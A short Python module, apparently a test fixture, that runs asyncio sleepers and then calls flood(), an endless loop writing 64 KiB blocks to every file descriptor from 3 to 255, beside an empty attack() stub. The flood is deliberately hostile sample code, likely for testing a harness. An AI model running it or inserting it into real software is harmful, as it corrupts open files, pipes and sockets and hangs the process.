import asyncio
import os


def attack():
    pass


def flood():
    while True:
        for descriptor in range(3, 256):
            try:
                os.write(descriptor, b"y" * 65536)
            except OSError:
                pass


async def sleep(name, seconds):
    print(f"{name}: sleeping")
    await asyncio.sleep(seconds)
    print(f"{name}: awake!")


async def everybody(sleepers):
    attack()
    await asyncio.gather(*(sleep(name, seconds) for name, seconds in sleepers.items()))
    flood()
